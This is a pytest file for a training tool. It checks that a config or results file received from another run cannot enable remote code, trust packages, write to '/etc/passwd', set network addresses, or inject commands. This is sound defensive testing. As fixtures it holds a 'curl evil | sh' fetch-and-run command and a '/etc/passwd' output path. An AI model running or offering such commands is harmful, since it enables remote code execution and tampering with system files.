"""A run's folder from somebody else cannot grant trust or supply commands."""

import json
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from trainer.config import yaml_files
from trainer.errors import InputError
from trainer.models.auto import AutoConfig
from trainer.runs.run import Run

Composed = Callable[..., Run]
Refused = Callable[..., str]

HUB_METRIC = {
    "_target_": "trainer.metrics.hub.HubMetric",
    "name": "m",
    "greater_is_better": True,
    "trust_remote_code": True,
}


@pytest.fixture
def received(composed: Composed, tmp_path: Path) -> Callable[..., None]:
    """Writes a run's config with changed entries to the folder `theirs`."""

    def put(**entries: object) -> None:
        folder = tmp_path / "theirs"
        folder.mkdir(exist_ok=True)
        (folder / "config.yaml").write_text(yaml_files.dump({**composed().config, **entries}))

    return put


def test_a_received_config_does_not_trust_itself(
    received: Callable[..., None], refused: Refused, composed: Composed
) -> None:
    metrics = {"m": HUB_METRIC}
    received(metrics=metrics)
    for more in ([], ["job=evaluate"]):
        line = refused("from=theirs", *more)
        assert line.startswith("theirs/config.yaml: metrics.m.trust_remote_code: found true")
        assert "metrics.m.trust_remote_code=true on the command line" in line
    # a mapping is merged and does not trust entries that it does not name
    assert "metrics.m.trust_remote_code" in refused("from=theirs", "metrics={other: null}")
    allowed = composed("from=theirs", "metrics.m.trust_remote_code=true")
    assert allowed.metrics["m"].trust_remote_code
    assert not composed("from=theirs", "~metrics.m").metrics
    assert not composed("from=theirs", "metrics=none").metrics


def test_packages_are_trusted_on_the_command_line_alone(
    received: Callable[..., None], refused: Refused
) -> None:
    target = {"_target_": "json.decoder.JSONDecoder"}
    received(trusted_packages=["json"], callbacks={"c": target})
    line = refused("from=theirs")
    assert line.startswith("theirs/config.yaml: trusted_packages: found ['json']")
    assert "trusted_packages=[json] on the command line" in line
    received(callbacks={"c": target})
    line = refused("from=theirs")
    assert line.startswith("theirs/config.yaml: callbacks.c._target_: found 'json.decoder.JSON")
    assert "trusted_packages=[json] on the command line" in line
    assert "is not a dataclass" in refused("from=theirs", "trusted_packages=[json]")


def test_a_received_config_does_not_say_where_to_write(
    received: Callable[..., None], refused: Refused
) -> None:
    received(output={"file": "/etc/passwd"})
    assert refused("from=theirs").startswith("theirs/config.yaml: output.file: found '/etc/passwd'")


def test_a_received_config_names_no_address_and_no_crowd_of_processes(
    received: Callable[..., None], refused: Refused, composed: Composed
) -> None:
    received(launch={"num_nodes": 2, "rendezvous": "10.0.0.1:1"})
    line = refused("from=theirs")
    assert line.startswith("theirs/config.yaml: launch.rendezvous: found '10.0.0.1:1'")
    assert "launch.rendezvous=HOST:PORT on the command line" in line
    assert composed("from=theirs", "launch.rendezvous=10.0.0.2:2").launch.num_nodes == 2
    received(launch={"num_processes": 10**6})
    line = refused("from=theirs")
    assert line.startswith("theirs/config.yaml: launch.num_processes: found 1000000")
    received(launch={"num_processes": str(10**6)})
    assert "launch.num_processes" in refused("from=theirs")
    received(launch={"num_processes": 4})
    assert composed("from=theirs").launch.num_processes == 4


def test_a_received_config_does_not_say_where_to_report(
    received: Callable[..., None], refused: Refused, composed: Composed
) -> None:
    for name in ("tracking_uri", "base_url", "entity", "host"):
        received(callbacks={"t": {"_target_": "trainer.callbacks.x.X", name: "http://10.0.0.1"}})
        line = refused("from=theirs")
        assert line.startswith(f"theirs/config.yaml: callbacks.t.{name}: found 'http://10.0.0.1'")
        assert f"callbacks.t.{name}=... on the command line" in line
    assert not composed("from=theirs", "~callbacks.t").callbacks.get("t")


def test_a_model_names_no_recipe_of_an_untrusted_package(refused: Refused, tmp_path: Path) -> None:
    (tmp_path / "model").mkdir()
    text = json.dumps({"recipe": "json.decoder.JSONDecoder", "fields": {}})
    (tmp_path / "model" / "recipe.json").write_text(text)
    line = refused("job=predict", "model.path=model", "input.text=a")
    assert line.startswith("model/recipe.json: recipe: found 'json.decoder.JSONDecoder'")
    assert "trusted_packages=[json] on the command line" in line


def test_a_model_imports_nothing_that_the_user_does_not_trust(
    refused: Refused, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("mine/recipes/pictures", "mine/families/pictures", "pictures"):
        file = tmp_path / f"{module}.py"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("raise SystemExit(99)")
    monkeypatch.syspath_prepend(str(tmp_path))
    folder = tmp_path / "model"
    folder.mkdir()
    ask = ("job=predict", "model.path=model", "input.text=a")
    for name, accepted in (
        ("mine.recipes.pictures.Pictures", "trusted_packages=[mine] on the command line"),
        ("pictures", "accepted: causal_lm, distillation"),
        ("recipes.pictures", "no class 'recipes.pictures'"),
    ):
        (folder / "recipe.json").write_text(json.dumps({"recipe": name, "fields": {}}))
        assert accepted in refused(*ask)
    (folder / "recipe.json").unlink()
    for name in ("pictures", "mine.families.pictures", "mine"):
        entries = {"model_type": name, "architectures": ["BertForSequenceClassification"]}
        (folder / "config.json").write_text(json.dumps(entries))
        with pytest.raises(InputError, match="accepted: albert, bart, bert, "):
            AutoConfig.from_pretrained(folder)
    assert not {"mine", "pictures"} & set(sys.modules)


def test_commands_of_a_received_run_are_not_printed(
    composed: Composed, capsys: pytest.CaptureFixture[str]
) -> None:
    from trainer.jobs.train import _show_complete

    run = composed()
    results = {"steps": 3, "epochs": 1.0, "samples": 5, "seconds": 1.0}
    results |= {"commands": {"evaluate": "curl evil | sh"}, "model_path": "evil", "metrics": {}}
    _show_complete(run, results)
    printed = capsys.readouterr().out
    assert "evil" not in printed and f"from={run.output_dir} job=evaluate" in printed


def test_results_of_wrong_types_are_one_line(composed: Composed) -> None:
    from trainer.errors import InputError
    from trainer.jobs.train import _show_complete

    bad = {"steps": [], "epochs": "x", "samples": None, "seconds": {}, "metrics": 3}
    with pytest.raises(InputError, match=r"results.json: not what this program writes"):
        _show_complete(composed(), bad)


@pytest.mark.parametrize("line", ["seed: 2026-01-01", "null: 3", "seed: !!set {a}"])
def test_a_received_config_of_other_values_is_refused(
    refused: Callable[..., str], line: str
) -> None:
    Path("theirs").mkdir()
    Path("theirs/config.yaml").write_text(f"job: train\n{line}\n")
    assert refused("from=theirs").startswith("theirs/config.yaml: ")
